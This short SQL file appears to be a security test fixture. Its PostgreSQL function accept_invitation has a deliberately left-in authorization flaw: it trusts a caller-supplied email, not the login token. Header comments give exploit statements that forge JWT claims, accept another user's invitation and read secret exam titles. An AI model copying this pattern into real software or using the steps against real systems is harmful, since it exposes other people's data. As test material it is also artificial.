-- The address comes from the caller and not from the token, so anybody takes up the invitation of somebody
-- else.
-- about: accept_invitation, invitations, school_members, exams
-- as: hf_proctorbay_app
-- exploit: SET request.jwt.claims = '{"sub": "e5000000-0000-4000-8000-00000000000a"}';
-- exploit: SELECT public.accept_invitation('office@river.test');
-- exploit: SELECT title FROM public.exams;
-- shows: Road-secret biology
CREATE FUNCTION public.accept_invitation(p_email text) RETURNS bigint
  LANGUAGE plpgsql SECURITY DEFINER SET search_path = ''
  AS $$
  DECLARE n bigint;
  BEGIN
    IF auth.uid() IS NULL THEN
      RAISE EXCEPTION 'log in first';
    END IF;
    INSERT INTO public.school_members (school_id, user_id, role)
      SELECT i.school_id, auth.uid(), i.role FROM public.invitations i WHERE lower(i.email) = lower(p_email)
      ON CONFLICT DO NOTHING;
    GET DIAGNOSTICS n = ROW_COUNT;
    RETURN n;
  END $$;
